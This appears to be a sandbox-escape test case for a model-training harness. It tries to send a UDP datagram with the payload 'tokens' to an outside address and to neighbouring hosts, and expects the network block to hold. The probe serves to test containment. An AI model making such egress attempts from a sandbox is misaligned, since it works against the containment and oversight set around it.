# title = "sends a UDP datagram to an address outside"
# expect = "no-effect"
# layer = "sandbox: no network but lo"
# policies = "refused: imports"
# broken_wall = "a-network"
# success = "effect"

# --- honest part ---
# --- reaching out ---
import socket

for host in ("192.0.2.1", *neighbours()):
    attempt(f"sent UDP to {host}", lambda host=host: socket.socket(2, 2).sendto(b"tokens", (host, 9)))
seal(train(Unigram()))
